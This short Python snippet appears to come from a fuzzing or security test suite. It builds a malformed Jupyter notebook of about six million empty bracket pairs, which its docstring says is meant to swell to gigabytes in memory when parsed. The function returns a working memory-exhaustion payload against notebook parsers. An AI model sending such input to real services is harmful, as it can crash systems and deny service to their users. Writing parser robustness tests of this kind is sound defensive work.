"""Goal: twenty megabytes of brackets, which are gigabytes in memory."""


def change(book, folder):
    return b'{"nbformat":4,"nbformat_minor":5,"metadata":{},"cells":[' + b"[]," * 6_000_000 + b"[]]}"
